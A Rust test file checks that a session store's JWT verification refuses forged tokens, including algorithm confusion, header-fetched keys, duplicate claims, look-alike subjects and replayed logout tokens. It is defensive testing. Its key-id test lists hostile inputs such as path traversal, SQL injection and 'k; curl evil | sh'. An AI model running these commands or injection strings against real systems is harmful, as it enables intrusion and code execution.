//! What an attacker makes of a token. Refused means: an identity error, one event, nothing written, nobody connected to.
#![allow(clippy::unwrap_used, reason = "a test that meets an error has failed")]

mod issuer;

use std::net::TcpListener;
use std::time::Duration;

use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD as B64};
use serde_json::{Value, json};
use sessile::{Category, Options, Store};

use issuer::{ISSUER, Issuer, NOW, store};

const JWT: &str = r#"{"type": "rest", "security": "jwt"}"#;

fn claims() -> Value {
    json!({"iss": ISSUER, "aud": "shop", "sub": "u1", "iat": NOW, "exp": NOW + 600})
}

fn put(store: &Store, token: &str, field: &str) -> sessile::Result<()> {
    store.execution(Some(JWT), Some(token)).unwrap().global(None).put_one(field, "1", None).wait()
}

/// Every text is refused with an identity error (or for its length), and writes nothing.
fn refused(store: &Store, id: &Issuer, what: &str, token: &str) {
    store.drain_events(usize::MAX);
    let error = put(store, token, "stolen").expect_err(what);
    let told = store.drain_events(usize::MAX);
    let [event] = &told[..] else { panic!("{what}: one refusal is one event: {told:?}") };
    let read: Value = serde_json::from_str(event).unwrap();
    assert_eq!(read["code"], error.code().name(), "{what}");
    assert!(["token.refused", "limit.hit"].contains(&read["event"].as_str().unwrap()), "{what}: {event}");
    let is_ours = error.code().category() == Category::Identity || error.code().name() == "LIMIT_EXCEEDED";
    assert!(is_ours, "{what}: {error:?}");
    for part in token.split('.').filter(|part| part.len() > 20) {
        assert!(!format!("{error:?}").contains(part), "{what}: the error quotes the token");
        assert!(!event.contains(part), "{what}: the event quotes the token");
    }
    let owner = store.execution(Some(JWT), Some(&id.token(json!({})))).unwrap().global(None);
    assert!(owner.get("stolen").wait().unwrap().is_none(), "{what}: it was written");
}

fn hmac_token(algorithm: hmac::Algorithm, name: &str, secret: &[u8]) -> String {
    let header = B64.encode(json!({"alg": name, "kid": "k"}).to_string());
    let signed = format!("{header}.{}", B64.encode(claims().to_string()));
    let tag = hmac::sign(&hmac::Key::new(algorithm, secret), signed.as_bytes());
    format!("{signed}.{}", B64.encode(tag))
}

#[test]
fn a_public_key_is_no_hmac_secret_in_any_spelling() {
    let id = Issuer::new("k");
    let (store, _) = store(&[id.entry(json!({}))]);
    let x = B64.decode(id.jwk()["x"].as_str().unwrap()).unwrap();
    let der = [&[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00][..], &x].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&der));
    let jwk = id.jwk();
    let spellings: [(&str, &[u8]); 7] = [
        ("the point", &x),
        ("its base64url", jwk["x"].as_str().unwrap().as_bytes()),
        ("DER", &der),
        ("PEM", pem.as_bytes()),
        ("PEM without its last line end", pem.trim_end().as_bytes()),
        ("the JWK", &jwk.to_string().into_bytes()),
        ("nothing", b""),
    ];
    for (what, secret) in spellings {
        for (algorithm, name) in [
            (hmac::HMAC_SHA256, "HS256"),
            (hmac::HMAC_SHA384, "HS384"),
            (hmac::HMAC_SHA512, "HS512"),
            (hmac::HMAC_SHA256, "EdDSA"),
        ] {
            refused(&store, &id, &format!("{what} as {name}"), &hmac_token(algorithm, name, secret));
        }
    }
}

#[test]
fn nothing_that_a_token_names_is_fetched() {
    let (id, other) = (Issuer::new("k"), Issuer::new("k"));
    let (store, _) = store(&[id.entry(json!({}))]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("https://{}/keys", listener.local_addr().unwrap());
    for (name, value) in [
        ("jku", json!(url)),
        ("x5u", json!(url)),
        ("jwk", other.jwk()),
        ("x5c", json!([STANDARD.encode("certificate")])),
    ] {
        for signer in [&id, &other] {
            let mut header = json!({"alg": "EdDSA", "kid": "k"});
            header[name] = value.clone();
            refused(&store, &id, name, &signer.sign(&header, &claims()));
        }
    }
    let mut stranger = claims();
    stranger["iss"] = json!(url);
    refused(&store, &id, "an issuer that is a URL", &other.sign(&json!({"alg": "EdDSA", "kid": "k"}), &stranger));
    refused(&store, &id, "a kid that is a URL", &other.sign(&json!({"alg": "EdDSA", "kid": url}), &claims()));
    std::thread::sleep(Duration::from_millis(100));
    assert!(listener.accept().is_err(), "somebody connected");
}

#[test]
fn a_kid_names_a_key_and_does_nothing_else() {
    let id = Issuer::new("k");
    let (store, _) = store(&[id.entry(json!({}))]);
    for kid in [
        "../../../../dev/null",
        "/proc/self/environ",
        "k' OR '1'='1",
        "k'; DROP TABLE sessions; --",
        "k; curl evil | sh",
        "$(id)",
        "k\0",
        "K",
        "k ",
        "",
        &"k".repeat(5_000),
        &"k".repeat(10_000),
    ] {
        refused(&store, &id, "a kid", &id.sign(&json!({"alg": "EdDSA", "kid": kid}), &claims()));
    }
}

#[test]
fn claims_have_one_reading() {
    let id = Issuer::new("k");
    let (store, _) = store(&[id.entry(json!({}))]);
    let good = claims().to_string();
    let inner = &good[1..good.len() - 1];
    let sign = |payload: &str| {
        // The helper signs JSON values; these are texts that no value prints as.
        let header = B64.encode(r#"{"alg":"EdDSA","kid":"k"}"#);
        id.sign_text(&format!("{header}.{}", B64.encode(payload)))
    };
    put(&store, &sign(&good), "written").unwrap();
    for (what, payload) in [
        ("an array", format!("[{good}]")),
        ("a byte order mark", format!("\u{feff}{good}")),
        ("trailing bytes", format!("{good}x")),
        ("a second object", format!("{good}{good}")),
        ("a trailing NUL", format!("{good}\0")),
        ("sub twice", format!(r#"{{{inner},"sub":"admin"}}"#)),
        ("sub twice, once escaped", format!(r#"{{{inner},"s\u0075b":"admin"}}"#)),
        ("iss twice, once escaped", format!(r#"{{{inner},"\u0069ss":"{ISSUER}"}}"#)),
        ("exp twice", format!(r#"{{{inner},"exp":99999999999}}"#)),
        ("a comment", format!("{{/**/{inner}}}")),
        ("a trailing comma", format!("{{{inner},}}")),
        ("a nested token", id.token(json!({}))),
    ] {
        refused(&store, &id, what, &sign(&payload));
    }
}

/// Names that look alike are different users, or nobody.
#[test]
fn look_alike_subjects_share_nothing() {
    let id = Issuer::new("k");
    let (store, _) = store(&[id.entry(json!({}))]);
    let subjects = [
        "1",
        "01",
        "1.0",
        "u1",
        "U1",
        "u1 ",
        " u1",
        "u/1",
        "u:1",
        "u|1",
        "u.1",
        "\u{e9}",
        "e\u{301}",
        "null",
        "true",
        "[]",
        "u1\u{200b}",
        "ｕ1",
    ];
    for (at, subject) in subjects.iter().enumerate() {
        let session = store.execution(Some(JWT), Some(&id.token(json!({"sub": subject})))).unwrap().global(None);
        assert!(session.keys().wait().unwrap().is_empty(), "{subject:?} shares a session");
        session.put_one("at", &at.to_string(), None).wait().unwrap();
    }
    for subject in
        [json!(1), json!(null), json!(""), json!([]), json!(["u1"]), json!({}), json!(true), json!("u\u{0}1")]
    {
        let token = id.sign(&json!({"alg": "EdDSA", "kid": "k"}), &{
            let mut claims = claims();
            claims["sub"] = subject.clone();
            claims
        });
        refused(&store, &id, &subject.to_string(), &token);
    }
}

/// One kid and one subject under two issuers: two keys, two users.
#[test]
fn issuers_do_not_speak_for_each_other() {
    let (one, two) = (Issuer::new("k"), Issuer::new("k"));
    let (store, _) = store(&[one.entry(json!({})), two.entry(json!({"issuer": "https://two"}))]);
    put(&store, &one.token(json!({})), "mine").unwrap();
    put(&store, &two.token(json!({"iss": "https://two"})), "theirs").unwrap();
    refused(&store, &one, "the other's key", &two.token(json!({})));
    refused(&store, &one, "the other's issuer", &one.token(json!({"iss": "https://two"})));
    let mine = store.execution(Some(JWT), Some(&one.token(json!({})))).unwrap().global(None);
    assert!(mine.get("theirs").wait().unwrap().is_none());
}

#[test]
fn a_clock_at_zero_and_absurd_leeways() {
    let id = Issuer::new("k");
    let (store, clock) = store(&[id.entry(json!({}))]);
    clock.set(sessile::Time::from_secs(0)).unwrap();
    assert_eq!(store.verify(&id.token(json!({}))).wait().unwrap_err().code().name(), "TOKEN_NOT_YET");
    store.verify(&id.token(json!({"iat": 0, "exp": 60}))).wait().unwrap();
    clock.set(sessile::Time::from_secs(i64::MAX / 1000)).unwrap();
    assert_eq!(store.verify(&id.token(json!({}))).wait().unwrap_err().code().name(), "TOKEN_EXPIRED");
    for leeway in [json!(121), json!(-1), json!(1e300), json!(u64::MAX), json!("30"), json!(30.5)] {
        let options = json!({"url": "memory:", "issuers": [id.entry(json!({"leeway": leeway}))]}).to_string();
        let opened = Options::from_json(&options).and_then(|options| Store::open(options).wait());
        assert_eq!(opened.unwrap_err().code().name(), "INVALID_ARGUMENT", "{leeway}");
    }
}

/// Two stores may trust one issuer, and yet other audiences, leeways, keys: neither takes the other's word.
#[test]
fn a_proof_is_of_the_store_that_made_it() {
    let id = Issuer::new("k");
    let (mine, _) = store(&[id.entry(json!({}))]);
    let (other, _) = store(&[id.entry(json!({}))]);
    let proof = other.verify(&id.token(json!({}))).wait().unwrap();
    let refused = mine.global(&proof, None).map(|_| ()).unwrap_err();
    assert_eq!(refused.code().category(), Category::Identity, "{refused:?}");
    other.global(&proof, None).unwrap().put_one("a", "1", None).wait().unwrap();

    // What came of a store that was closed opens nothing any more.
    let run = other.execution(Some(JWT), Some(&id.token(json!({})))).unwrap();
    let session = other.global(&proof, None).unwrap();
    other.close().wait().unwrap();
    assert_eq!(session.get("a").wait().unwrap_err().code().name(), "CLOSED");
    assert_eq!(run.global(None).get("a").wait().unwrap_err().code().name(), "CLOSED");
    assert_eq!(other.verify(&id.token(json!({}))).wait().unwrap_err().code().name(), "CLOSED");
    assert_eq!(other.global(&proof, None).map(|_| ()).unwrap_err().code().name(), "CLOSED");
}

#[test]
fn of_many_who_send_one_logout_token_one_is_heard() {
    let id = Issuer::new("k");
    let (store, _) = store(&[id.entry(json!({}))]);
    put(&store, &id.token(json!({})), "a").unwrap();
    let events = json!({"http://schemas.openid.net/event/backchannel-logout": {}});
    let logout = id.typed("logout+jwt", json!({"jti": "l", "exp": NOW + 120, "events": events}));
    let answers: Vec<_> = std::thread::scope(|scope| {
        let senders: Vec<_> = (0..8).map(|_| scope.spawn(|| store.accept_logout_token(&logout).wait())).collect();
        senders.into_iter().map(|sender| sender.join().unwrap()).collect()
    });
    assert_eq!(answers.iter().filter(|answer| answer.is_ok()).count(), 1);
    for refused in answers.into_iter().filter_map(Result::err) {
        assert_eq!(refused.details()["reason"], "replayed", "{refused:?}");
    }
    let error = put(&store, &id.token(json!({})), "a").unwrap_err();
    assert_eq!(error.code().name(), "TOKEN_REVOKED");
}
